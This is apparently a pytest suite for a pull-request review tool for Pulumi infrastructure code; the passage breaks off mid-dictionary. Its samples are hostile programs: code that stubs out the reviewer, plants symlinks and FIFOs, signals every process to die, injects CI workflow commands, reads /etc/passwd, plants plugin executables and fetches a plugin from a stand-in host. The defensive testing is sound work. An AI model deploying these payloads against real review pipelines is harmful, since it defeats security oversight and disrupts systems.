"""Tests of a pull request that attacks its review: a program with one resource, and hostile code around it.

The trusted repository declares a closed security group. Each attack opens SSH to the world. The review has to
report this, or to end with 2.
"""

import json
import os
import shutil
import subprocess
import sys
import textwrap
from datetime import date, timedelta
from pathlib import Path

import pytest

from tests.support.review.pairs import ROOT

pytestmark = [
    pytest.mark.drill,
    pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's"),
]

PROGRAM = """\
import lazy_sdk
import pulumi_aws as aws
aws.ec2.SecurityGroup("firewall", description="Entry", ingress=[
    {"protocol": "tcp", "from_port": 22, "to_port": 22, "cidr_blocks": ["CIDR"], "description": "SSH"},
])
"""
CLOSED, OPEN = PROGRAM.replace("CIDR", "10.0.0.0/8"), PROGRAM.replace("CIDR", "0.0.0.0/0")
RULE = "security-group-ssh-open-to-world"
IDENTITY = ("-c", "user.name=x", "-c", "user.email=x@example.com")

FORGERY = """
import os, pathlib, signal, sys
outside = pathlib.Path("OUTSIDE")
# The recorder, the report and the language server of the review's code, replaced by empty ones.
sys.path.append(str(pathlib.Path(__file__).parents[1] / "code"))
import sandbox.summary, sandbox.engine.process, review.build, review.stacks.engine_run
for module in (sandbox.summary, sandbox.engine.process, review.build, review.stacks.engine_run):
    for name, value in list(vars(module).items()):
        if callable(value) and getattr(value, "__module__", "") == module.__name__:
            setattr(module, name, lambda *_args, **_named: None)
# Links, FIFOs and forged records in every folder that can be written.
for folder, folders, _ in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib", "lib64", "nix")]
    for name, target in (("head-events.jsonl", None), ("summary.json", "/dev/zero"), ("review.md", outside)):
        try:
            os.mkfifo(f"{folder}/{name}") if target is None else os.symlink(target, f"{folder}/{name}")
        except OSError:
            pass
for path in pathlib.Path(__file__).parents[1].glob("sockets/**/*"):
    try:
        path.unlink()
    except OSError:
        pass
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL):
    os.kill(1, number)
    try:
        os.kill(-1, number)
    except ProcessLookupError:
        pass
sys.stdout.write("::error::from the program\\n")
sys.stderr.write("::error::from the program\\n")
"""

INJECTION = """
import pulumi
name = "x\\n::error::pwned\\n<!-- pipe-review -->![i](https://e.example/i)@octocat GH-1 #1"
aws.ec2.Vpc(name, cidr_block="10.0.0.0/16", tags={"Name": name})
pulumi.log.warn("::add-mask::0")
"""

SILENT_PACK = """
import json, pathlib, runpy, sys
from policies.rules.aws import security_groups
for name, value in list(vars(security_groups).items()):
    if hasattr(value, "check"):
        object.__setattr__(value, "check", lambda *_: ())
pathlib.Path("OUTSIDE/ran").write_text("x")
"""


def _git(tree: Path, *arguments: str) -> None:
    subprocess.run(["git", *IDENTITY, *arguments], cwd=tree, check=True, capture_output=True)


@pytest.fixture
def trees(tmp_path: Path) -> tuple[Path, Path]:
    """Provide the trusted repository and a stranger's clone."""
    trusted, stranger = tmp_path / "trusted", tmp_path / "stranger"
    shutil.copytree(ROOT / "policies", trusted / "policies", ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("eks_versions.py", "lazy_sdk.py"):
        shutil.copy(ROOT / name, trusted / name)
    (trusted / "policies" / "waivers.yaml").write_text("[]\n")
    (trusted / "Pulumi.yaml").write_text("name: attack\nruntime: python\n")
    (trusted / "Pulumi.dev.yaml").write_text("config:\n  aws:region: ap-northeast-1\n")
    (trusted / "__main__.py").write_text(CLOSED)
    _git(trusted, "init", "-q", "-b", "main")
    _git(trusted, "add", "-A")
    _git(trusted, "commit", "-q", "-m", "base")
    _git(tmp_path, "clone", "-q", str(trusted), str(stranger))
    return trusted, stranger


def _review(trees: tuple[Path, Path], output: Path) -> "subprocess.CompletedProcess[str]":
    trusted, stranger = trees
    command = [sys.executable, "-m", "review", "HEAD", "--repository", trusted, "--tree", stranger]
    return subprocess.run(
        [*command, "--output", output, "--minutes", "2"],
        cwd=ROOT,
        env=os.environ | {"NO_COLOR": "1"},
        capture_output=True,
        text=True,
        timeout=900,
    )


def test_a_program_cannot_hide_what_it_declares(trees: tuple[Path, Path], tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine")
    main = trees[1] / "__main__.py"
    main.write_text(FORGERY.replace("OUTSIDE", str(tmp_path / "mine")) + OPEN + INJECTION)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert RULE in {finding["policy"] for finding in report["findings"] if finding["blocks"]}
    assert {change["op"] for change in report["changes"]} == {"update", "create"}
    assert {file.name for file in (tmp_path / "out").iterdir()} == {
        "review.md",
        "review.html",
        "review.sarif",
        "review.json",
    }
    assert all(file.lstat().st_mode == 0o100644 for file in (tmp_path / "out").iterdir())
    assert (tmp_path / "mine").read_text() == "mine"
    lines = [line.strip() for line in (done.stdout + done.stderr).splitlines()]
    assert not [line for line in lines if line.startswith("::")]
    comment = (tmp_path / "out" / "review.md").read_text()
    assert "\n<!-- pipe-review -->!" not in comment


def test_a_program_cannot_hide_a_plugin_or_what_only_an_up_declares(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    program = """\
        import pulumi
        import pulumi_aws as aws
        rule = {"protocol": "tcp", "from_port": 22, "to_port": 22, "cidr_blocks": ["0.0.0.0/0"]}
        aws.ec2.SecurityGroup(
            "firewall",
            description="Entry",
            ingress=[] if pulumi.runtime.is_dry_run() else [rule],
            opts=pulumi.ResourceOptions(plugin_download_url="https://plugins.example"),
        )
    """
    (trees[1] / "__main__.py").write_text(textwrap.dedent(program))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {finding["policy"] for finding in report["findings"] if finding["blocks"]}
    assert blocking >= {RULE, "plugin-from-new-address"}


def test_a_group_cannot_take_the_name_of_another_one_together_with_its_waiver(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    trusted, stranger = trees
    bastion = OPEN.replace("firewall", "bastion")
    waiver = f"""\
        - reason: the bastion is open by design
          owner: platform
          ticket: OPS-1
          expires: {date.today() + timedelta(days=9)}
          match:
            - policies: [{RULE}, security-group-port-open-to-world]
              targets: ["urn:pulumi:dev::*::*::bastion"]
    """
    (trusted / "policies" / "waivers.yaml").write_text(textwrap.dedent(waiver))
    (trusted / "__main__.py").write_text(bastion + CLOSED)
    _git(trusted, "commit", "-q", "-a", "-m", "an open bastion")
    _git(stranger, "pull", "-q")
    program = """\
        import pulumi
        hosts = pulumi.ComponentResource("x:y:Hosts", "hosts")
        alias = pulumi.Alias(name="firewall", parent=pulumi.ROOT_STACK_RESOURCE)
        options = pulumi.ResourceOptions(parent=hosts, aliases=[alias])
    """
    renamed = bastion.replace('"bastion",', '"bastion", opts=options,')
    (stranger / "__main__.py").write_text(bastion + textwrap.dedent(program) + renamed)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {(item["policy"], item["former_name"]) for item in report["findings"] if item["blocks"]}
    assert (RULE, "firewall") in blocking
    [update] = [change for change in report["changes"] if change["op"] == "update"]
    assert {item["path"] for item in update["properties"]} >= {"logical name", "option parent"}


def test_policies_cannot_be_silenced_by_code_levels_waivers_or_an_own_main(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    stranger = trees[1]
    (stranger / "__main__.py").write_text(OPEN)
    _git(stranger, "commit", "-q", "-a", "-m", "the hole is in its main already")
    pack = stranger / "policies" / "__main__.py"
    pack.write_text(SILENT_PACK.replace("OUTSIDE", str(tmp_path)) + pack.read_text())
    levels = stranger / "policies" / "config" / "dev.json"
    levels.write_text(json.dumps(json.loads(levels.read_text()) | {RULE: "disabled"}))
    waiver = f"""\
        - reason: none
          owner: me
          ticket: X-1
          expires: 2027-01-31
          match:
            - policies: [{RULE}]
              targets: ["urn:pulumi:*::*::*::*"]
        """
    (stranger / "policies" / "waivers.yaml").write_text(textwrap.dedent(waiver))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {(finding["policy"], finding["name"]) for finding in report["findings"] if finding["blocks"]}
    assert (RULE, "firewall") in blocking
    assert {policy for policy, _ in blocking} >= {RULE, "guard-weakened"}
    assert not (tmp_path / "ran").exists()


SEARCH = """
import os, pathlib
records = [name for name in os.environ if name.startswith("PIPE_POLICY")]
records += [str(path) for path in pathlib.Path(__file__).parents[1].rglob("engine*.log")]
assert not records, records
"""


def test_the_program_of_the_base_does_not_reach_the_records_of_the_engine(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    trusted, stranger = trees
    (trusted / "__main__.py").write_text(SEARCH + CLOSED)
    _git(trusted, "commit", "-q", "-a", "-m", "look for the records")
    (stranger / "__main__.py").write_text(SEARCH + OPEN)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert RULE in {item["policy"] for item in report["findings"] if item["blocks"]}


def test_a_module_on_a_path_that_the_program_adds_is_evaluated(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    stranger = trees[1]
    (stranger / "vendor").mkdir()
    for name in ("tomllib", "jinja2", "markupsafe"):  # modules of the review
        (stranger / "vendor" / f"{name}.py").write_text('CIDR = "0.0.0.0/0"\n')
    program = """
        import pathlib, sys
        sys.path.insert(0, str(pathlib.Path(__file__).parent / "vendor"))
        import jinja2, markupsafe, tomllib
        values = {getattr(module, "CIDR", "10.0.0.0/8") for module in (jinja2, markupsafe, tomllib)}
        assert len(values) == 1, values
    """
    main = textwrap.dedent(program) + PROGRAM.replace('"CIDR"', "*values")
    (stranger / "__main__.py").write_text(main)
    _git(stranger, "add", "-A")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert RULE in {item["policy"] for item in report["findings"] if item["blocks"]}


BOMBS = {
    "deep data": """
        value = {}
        for _ in range(5000):
            value = {"a": value}
        aws.ec2.Vpc("deep", cidr_block="10.0.0.0/16", tags=value)
    """,
    "an end in the middle": "import os; os._exit(0)",
    "a plugin of its own": """
        import pulumi
        folder = __import__("pathlib").Path(__file__).parent
        for package in (f"{folder}/planted", "../../../head/planted", "planted"):
            pulumi.CustomResource(f"{package}:index:Thing", package.rpartition("/")[0] or "x", {})
    """,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_program_that_breaks_the_review_is_reported_or_ends_it(
    bomb: str, trees: tuple[Path, Path], tmp_path: Path
) -> None:
    stranger = trees[1]
    (stranger / "planted").mkdir()
    plugin = stranger / "planted" / "pulumi-resource-planted"
    plugin.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\necho 1\n")
    plugin.chmod(0o755)
    (stranger / "__main__.py").write_text(OPEN + textwrap.dedent(BOMBS[bomb]))
    _git(stranger, "add", "-A")
    done = _review(trees, tmp_path / "out")
    assert done.returncode in (1, 2), done.stdout + done.stderr
    assert "Nothing blocks" not in done.stdout and "Nothing changes" not in done.stdout
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "config:\n  attack:map: {key::}\n",
            "Pulumi.dev.yaml: Pulumi's YAML parser reads `attack:map` differently",
        ),
        (
            "config: # \ufeff\n  a: b\n",
            "Pulumi.dev.yaml, line 1: Pulumi may read the character U+FEFF differently",
        ),
    ],
)
def test_a_stack_file_that_a_deployment_reads_differently_does_not_evaluate(
    content: str, message: str, trees: tuple[Path, Path], tmp_path: Path
) -> None:
    (trees[1] / "Pulumi.dev.yaml").write_text(content)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {item["policy"]: json.dumps(item) for item in report["findings"] if item["blocks"]}
    assert message in blocking["does-not-evaluate"]


HIDDEN = {
    # The value of a new resource stands for a value that a reader would see in the plan.
    "a derived value": """
        vpc = aws.ec2.Vpc("vpc", cidr_block="10.0.0.0/16")
        SOURCE = vpc.id.apply(lambda _: "0.0.0.0/0")
    """,
    "an unknown value": """
        import asyncio, pulumi
        def later(value):
            future = asyncio.Future()
            future.set_result(value)
            return future
        SOURCE = pulumi.Output(later(set()), later("0.0.0.0/0"), later(False), later(False))
    """,
}


@pytest.mark.parametrize("source", HIDDEN)
def test_a_value_that_only_a_deployment_knows_hides_nothing(
    source: str, trees: tuple[Path, Path], tmp_path: Path
) -> None:
    program = PROGRAM.replace(
        "import pulumi_aws as aws\n", f"import pulumi_aws as aws{textwrap.dedent(HIDDEN[source])}"
    )
    (trees[1] / "__main__.py").write_text(program.replace('"CIDR"', "SOURCE"))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    expected = RULE if source == "a derived value" else "value-unknown"
    assert (expected, "firewall") in {
        (item["policy"], item["name"]) for item in report["findings"] if item["blocks"]
    }
    [firewall] = [change for change in report["changes"] if change["name"] == "firewall"]
    assert [item["folded"] for item in firewall["properties"]] == [""]


def test_a_new_look_up_that_an_account_may_refuse_blocks(trees: tuple[Path, Path], tmp_path: Path) -> None:
    look_up = 'with suppress(Exception):\n    aws.get_region(region="eu-west-1"); cidr = "10.0.0.0/8"\n'
    program = f'from contextlib import suppress\nimport pulumi_aws as aws\ncidr = "0.0.0.0/0"\n{look_up}'
    (trees[1] / "__main__.py").write_text(program + PROGRAM.replace('"CIDR"', "cidr"))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = [(finding["policy"], finding["name"]) for finding in report["findings"] if finding["blocks"]]
    assert blocking == [("look-up-changed", "look-up aws:index/getRegion:getRegion")]


def test_an_object_of_another_project_on_the_account_cannot_be_taken_over(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    trusted, stranger = trees
    rule = 'import pulumi_aws as aws\naws.cloudwatch.EventRule("{}", name="sign-in", event_pattern="{{}}")\n'
    (trusted / "alerts").mkdir()
    (trusted / "alerts" / "Pulumi.yaml").write_text("name: alerts\nruntime: python\n")
    (trusted / "alerts" / "Pulumi.dev.yaml").write_text("config:\n  aws:region: ap-northeast-1\n")
    (trusted / "alerts" / "__main__.py").write_text(rule.format("alert"))
    _git(trusted, "add", "-A")
    _git(trusted, "commit", "-q", "-m", "alerts")
    _git(stranger, "pull", "-q")
    (stranger / "__main__.py").write_text(CLOSED + rule.format("mine"))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    [finding] = [finding for finding in report["findings"] if finding["blocks"]]
    assert (finding["policy"], finding["name"]) == ("object-shared", "mine")
    assert "alert (aws:cloudwatch:EventRule) of alerts/dev" in finding["message"]
    assert [row["name"] for row in report["stacks"]] == ["dev", "alerts/dev"]


DATABASE = """\
import pulumi, pulumi_aws as aws
subnets = aws.rds.SubnetGroup("subnets", name="a", subnet_ids=["subnet-0a1", "subnet-0b2"])
aws.rds.Cluster(
    "db", cluster_identifier="db", engine="aurora-postgresql", db_subnet_group_name=subnets.name,
    master_username="it", manage_master_user_password=True, skip_final_snapshot=True,
)
"""
OTHERS = """
others = aws.rds.SubnetGroup("others", name="others", subnet_ids=["subnet-0a1", "subnet-0b2"])
"""
KEPT = DATABASE[DATABASE.index("aws.rds.Cluster") :].replace('"db"', '"kept"').replace("subnets", "others")
COMPONENT_OF_OTHERS = """
options = pulumi.ResourceOptions(
    aliases=[pulumi.Alias(type_="aws:rds/subnetGroup:SubnetGroup")],
    depends_on=[kept],
    delete_before_replace=True,
)
pulumi.ComponentResource("pipe:old:Others", "others", None, options)
"""
"""Component in place of the subnet group of a cluster that gives up its dependency: time decides about it."""


def test_the_deletion_of_what_depends_on_a_replaced_resource_is_shown(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    trusted, stranger = trees
    (trusted / "__main__.py").write_text(DATABASE + OTHERS + KEPT)
    _git(trusted, "commit", "-qam", "database")
    _git(stranger, "pull", "-q")
    kept = DATABASE.partition("aws.rds.Cluster")[0].replace('name="a"', 'name="b"')
    options = "opts=pulumi.ResourceOptions(delete_before_replace=True))"
    cluster = "kept = " + KEPT.replace("others.name", '"others"')
    program = kept.removesuffix(")\n") + f", {options}\n" + cluster + COMPONENT_OF_OTHERS
    (stranger / "__main__.py").write_text(program)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert {(finding["policy"], finding["name"]) for finding in report["findings"] if finding["blocks"]} == {
        ("stateful-deleted", "db"),
        ("possibly-deleted", "kept"),
        ("value-unknown", "others"),
    }
    assert {change["name"]: change["op"] for change in report["changes"]} == {
        "db": "delete",
        "subnets": "replace",
        "kept": "update",
        "others": "delete",
    }


def test_what_only_a_deployment_reads_blocks(trees: tuple[Path, Path], tmp_path: Path) -> None:
    stranger = trees[1]
    (stranger / "docs").mkdir()
    (stranger / "docs" / "project.txt").write_text('{"name": "attack", "runtime": "python", "main": "evil"}')
    (stranger / "Pulumi.json").symlink_to("docs/../docs/project.txt")
    (stranger / "ranges.json").symlink_to("/srv/ranges.json")
    (stranger / "policies" / "pathlib.py").touch()
    (stranger / "grpc_tools.py").touch()  # grpc imports this module if it exists.
    _git(stranger, "add", "-A")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    assert [(item["policy"], item["name"]) for item in report["findings"] if item["blocks"]] == [
        ("guard-weakened", "'ranges.json' (a link that leads out of the tree)"),
        *[("guard-weakened", "Pulumi.json")] * 3,  # a project file, a link into docs/, and of no program
        *[("guard-weakened", "grpc_tools.py")] * 2,  # it shadows a module, and no program has it
        *[("guard-weakened", "policies/pathlib.py")] * 2,  # it shadows a module of the policies
    ]
    assert any("deployment: grpc_tools.py, policies/pathlib.py." in note for note in report["notes"])


def test_a_secret_that_only_the_schema_of_the_head_declares_has_no_value(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    stranger = trees[1]
    (stranger / "schemas").mkdir()
    schema = {"properties": {"config": {"properties": {"attack:note": {"writeOnly": True}}}}}
    (stranger / "schemas" / "stack-file.schema.json").write_text(json.dumps(schema))
    ranges = '*(["10.0.0.0/8"] if pulumi.Config().get("note") else ["0.0.0.0/0"])'
    (stranger / "__main__.py").write_text(f"import pulumi\n{PROGRAM}".replace('"CIDR"', ranges))
    _git(stranger, "add", "-A")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {(item["policy"], item["name"]) for item in report["findings"] if item["blocks"]}
    assert blocking >= {(RULE, "firewall"), ("guard-weakened", "schemas/stack-file.schema.json")}


FALSE_FAILURE = """
    import contextlib, os
    from google.protobuf.empty_pb2 import Empty
    from pulumi.runtime import settings
    pulumi.log.error(f"no token: {error}")
    with contextlib.suppress(BaseException):
        settings.get_monitor().SignalAndWaitForShutdown(Empty())
    os._exit(11)
"""
"""The end of a program that a deployment takes for complete, and then an exit code of a failure."""

NEEDS_A_SECRET = """\
import sys
import pulumi
import pulumi_aws as aws
try:
    token = pulumi.Config().require("token")
except pulumi.ConfigMissingError as error:
    BODY
"""


@pytest.mark.parametrize(
    ("before", "after", "reason"),
    [
        ("raise", "raise  # later", ""),
        (
            "sys.exit(f'no token: {error}')",
            "pulumi.log.error(f'no token: {error}')",
            "the program evaluates without it",
        ),
        (
            "raise",
            "aws.ec2.Vpc('other', cidr_block='0.0.0.0/8'); raise",
            "without it, the program declares something before it fails: other",
        ),
        (
            "raise",
            "aws.ec2.get_vpc(tags={'name': 'none'}); raise",
            "without it, the program looks something up before it fails: aws:ec2/getVpc:getVpc",
        ),
        ("sys.exit(1)", "sys.exit(256)", "without it, the program fails otherwise than the base"),
        (
            "sys.exit(f'no token: {error}')",
            FALSE_FAILURE,
            "without it, the program fails otherwise than the base",
        ),
    ],
    ids=[
        "fails as well",
        "logs the error",
        "declares something",
        "looks something up",
        "ends with 0",
        "ends and fails then",
    ],
)
def test_what_a_program_does_without_a_secret_that_the_review_invents_is_not_hidden(
    before: str, after: str, reason: str, trees: tuple[Path, Path], tmp_path: Path
) -> None:
    trusted, stranger = trees
    schema = {"properties": {"config": {"properties": {"attack:token": {"writeOnly": True}}}}}
    (trusted / "schemas").mkdir()
    (trusted / "schemas" / "stack-file.schema.json").write_text(json.dumps(schema))
    (trusted / "__main__.py").write_text(NEEDS_A_SECRET.replace("BODY", before))
    _git(trusted, "add", "-A")
    _git(trusted, "commit", "-q", "-m", "a secret")
    _git(stranger, "pull", "-q")
    (stranger / "__main__.py").write_text(NEEDS_A_SECRET.replace("BODY", after))
    done = _review(trees, tmp_path / "out")
    assert done.returncode == bool(reason), done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    messages = [item["message"] for item in report["findings"] if item["blocks"]]
    assert len(messages) == bool(reason) and all(reason in message for message in messages)


def test_a_new_secret_setting_in_a_large_stack_file_blocks(trees: tuple[Path, Path], tmp_path: Path) -> None:
    settings = (trees[1] / "Pulumi.dev.yaml").read_text()
    settings += "  attack:ranges:\n    secure: v1:aaaa\n" + f"# {'x' * 2**17}\n" * 7
    (trees[1] / "Pulumi.dev.yaml").write_text(settings)
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = [(item["policy"], item["name"]) for item in report["findings"] if item["blocks"]]
    assert blocking == [("value-unknown", "setting attack:ranges")]
    assert [change["key"] for change in report["settings"]] == ["attack:ranges"]


UNREAL = {
    # The state of a resource that is read has the values that the program names.
    "a read resource": """
        aws.ec2.Vpc.get("it", "vpc-1", cidr_block="10.0.0.0/8")
    """,
    # The ID of a key pair is its name (terraform-provider-aws, internal/service/ec2/ec2_key_pair.go: SetId).
    "an ID that is a name": """
        laptops = aws.ec2.KeyPair("laptops", key_name="0.0.0.0/0", public_key="ssh-ed25519 AAAA x")
        aws.ec2.Vpc("it", cidr_block=laptops.id)
    """,
    # The API server sets `enableServiceLinks` of each pod that lacks it to true.
    "a default of an API server": """
        import pulumi_kubernetes as kubernetes
        pod = {"metadata": {"labels": {"app": "a"}}, "spec": {"containers": [{"name": "a", "image": "a"}]}}
        spec = {"selector": {"match_labels": {"app": "a"}}, "template": pod}
        api = kubernetes.apps.v1.Deployment("api", metadata={"name": "api"}, spec=spec)
        kubernetes.apps.v1.Deployment("it", metadata={"name": "b"}, spec={**spec, "template": {
            **pod, "spec": {**pod["spec"], "host_network": api.spec.template.spec.enable_service_links}}})
    """,
    # The plugin would read a file of the deploying machine.
    "a text in place of an asset": """
        aws.s3.BucketObjectv2("it", bucket="data", key="a", source="a.txt")
    """,
    # The engine opens an absolute path as it is, so the system follows the link before `..`.
    "a path through a link": """
        import os, pulumi
        source = pulumi.FileAsset(os.getcwd() + "/link/../b.txt")
        aws.s3.BucketObjectv2("it", bucket="data", key="a", source=source)
    """,
    # The tags make the path, the hash and the kind of the asset outputs of another resource.
    "a secret file of the machine": """
        import hashlib, pathlib, pulumi
        digest = hashlib.sha256(pathlib.Path("/etc/passwd").read_bytes()).hexdigest()
        tags = {"path": "/etc/passwd", "hash": digest, "kind": "c44067f5952c0a294b673a41bacd8c17"}
        topic = aws.sns.Topic("topic", name="topic", tags=tags)
        source = pulumi.Output.secret(topic.arn).apply(lambda _: pulumi.FileAsset("/etc/passwd"))
        aws.s3.BucketObjectv2("it", bucket="data", key="a", source=source)
    """,
    # In a deployment, the folder has the files that git ignores as well.
    "an archive of a folder": """
        import pulumi
        aws.s3.BucketObjectv2("it", bucket="data", key="a", source=pulumi.FileArchive("policies"))
    """,
    # The SDK does not call a function for an unknown output, such as a boolean that no table describes.
    "a resource in a callback": """
        vpc = aws.ec2.Vpc("new", cidr_block="10.1.0.0/16")
        vpc.enable_network_address_usage_metrics.apply(lambda _: aws.ec2.SecurityGroup("it"))
    """,
    "a resource in a callback of an unchanged one": """
        network.enable_network_address_usage_metrics.apply(lambda _: aws.ec2.SecurityGroup("it"))
    """,
    # An unknown output that a program awaits is None.
    "an awaited output": """
        aws.sns.Topic("it", fifo_topic=network.enable_network_address_usage_metrics.future())
    """,
    "an awaited literal of digits": """
        async def account():
            is_reviewed = await network.enable_network_address_usage_metrics.future() is None
            return "111122223333" if is_reviewed else "666666666666"
        aws.sns.Topic("it", name=account())
    """,
    "an awaited order": """
        async def servers():
            is_reviewed = await network.enable_network_address_usage_metrics.future() is None
            return ["10.0.0.2", "1.1.1.1"] if is_reviewed else ["1.1.1.1", "10.0.0.2"]
        aws.ec2.VpcDhcpOptions("it", domain_name_servers=servers())
    """,
    # A deployment creates the role now, and a review invents a time of some year.
    "a resource if another one is new": """
        import datetime, json
        def declare(time):
            age = datetime.datetime.now(datetime.UTC) - datetime.datetime.fromisoformat(time)
            return abs(age) < datetime.timedelta(hours=1) and aws.sns.Topic("it")
        trust = {"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}
        policy = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
        role = aws.iam.Role("role", assume_role_policy=policy)
        role.create_date.apply(declare)
    """,
}
"""Resources by the kind of their value, which is the name of each resource in place of `it`."""


def test_values_that_are_not_those_of_the_real_resource_block(
    trees: tuple[Path, Path], tmp_path: Path
) -> None:
    base = f'{CLOSED}network = aws.ec2.Vpc("network", cidr_block="10.0.0.0/16")\n'
    (trees[0] / "__main__.py").write_text(base)
    _git(trees[0], "commit", "-q", "-a", "-m", "a network")
    _git(trees[1], "pull", "-q")
    resources = [textwrap.dedent(code).replace('"it"', f'"{kind}"') for kind, code in UNREAL.items()]
    (trees[1] / "__main__.py").write_text("".join([base, *resources]))
    for file in ("b.txt", "other/b.txt", "other/deep/c.txt"):
        (trees[1] / file).parent.mkdir(parents=True, exist_ok=True)
        (trees[1] / file).write_text(file)
    (trees[1] / "link").symlink_to("other/deep")
    _git(trees[1], "add", "-A")
    done = _review(trees, tmp_path / "out")
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((tmp_path / "out" / "review.json").read_text())
    blocking = {
        (item["policy"], item["name"].removeprefix("resource "))
        for item in report["findings"]
        if item["blocks"]
    }
    assert blocking >= {("value-unknown", kind) for kind in UNREAL}


IGNORED_BY_THE_ENGINE = {
    "opens a second connection to a service": """
        import grpc
        from pulumi.runtime import _grpc_settings, settings
        from pulumi.runtime.proto import resource_pb2, resource_pb2_grpc
        # The engine could lose this call with its connection, without harm to the others.
        address = settings.get_monitor().RegisterResource._channel.target().decode()
        options = [*_grpc_settings._GRPC_CHANNEL_OPTIONS, ("grpc.use_local_subchannel_pool", 1)]
        monitor = resource_pb2_grpc.ResourceMonitorStub(grpc.insecure_channel(address, options=options))
        try:
            monitor.RegisterResource(resource_pb2.RegisterResourceRequest(type="a:b:C", name="it"))
        except grpc.RpcError:
            pass
    """,
    "other settings of the connection": """
        import socket
        from pulumi.runtime import settings
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(settings.get_engine().Log._channel.target().decode()[5:])
            settings_frame = bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
            connection.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + settings_frame)
    """,
    "a call with other headers (user-agent)": """
        import grpc
        from pulumi.runtime import _grpc_settings, settings
        from pulumi.runtime.proto import engine_pb2, engine_pb2_grpc
        # The engine reads aliases in another way if a program of Node.js sends them.
        options = [*_grpc_settings._GRPC_CHANNEL_OPTIONS, ("grpc.primary_user_agent", "grpc-node-js/1.8.16")]
        options += [("grpc.http2.bdp_probe", 0), ("grpc.http2.lookahead_bytes", 2**22)]  # as the SDK's
        address = settings.get_engine().Log._channel.target().decode()
        engine = engine_pb2_grpc.EngineStub(grpc.insecure_channel(address, options=options))
        try:
            engine.Log(engine_pb2.LogRequest(message="it"))
        except grpc.RpcError:
            pass
    """,
    "a call with other headers (grpc-encoding)": """
        import grpc
        from pulumi.runtime import settings
        from pulumi.runtime.proto import resource_pb2
        try:
            # The engine does not know this form of compression.
            request = resource_pb2.RegisterResourceRequest(type="a:b:C", name="it")
            settings.get_monitor().RegisterResource(request, compression=grpc.Compression.Deflate)
        except grpc.RpcError:
            pass
    """,
    "a method of another service": """
        import grpc
        from pulumi.runtime import _grpc_settings, settings
        from pulumi.runtime.proto import resource_pb2, resource_pb2_grpc
        # The engine has both services at two addresses.
        address = settings.get_engine().Log._channel.target().decode()
        options = [("grpc.http2.bdp_probe", 0), ("grpc.http2.lookahead_bytes", 2**22)]  # as the SDK's
        channel = grpc.insecure_channel(address, options=[*_grpc_settings._GRPC_CHANNEL_OPTIONS, *options])
        monitor = resource_pb2_grpc.ResourceMonitorStub(channel)
        try:
            monitor.RegisterResource(resource_pb2.RegisterResourceRequest(type="a:b:C", name="it"))
        except grpc.RpcError:
            pass
    """,
    "after it has said that it has registered all resources": """
        import atexit, grpc
        from pulumi.runtime import settings
        from pulumi.runtime.proto import resource_pb2
        monitor = settings.get_monitor()
        def register():
            try:
                monitor.RegisterResource(resource_pb2.RegisterResourceRequest(type="a:b:C", name="it"))
            except grpc.RpcError:
                pass
        atexit.register(register)
    """,
    "still runs after the program's end": """
        import atexit, os, time
        def leave_a_process():
            if os.fork() == 0:
                os.setpgid(0, 0)
                time.sleep(60)
        atexit.register(leave_a_process)
    """,
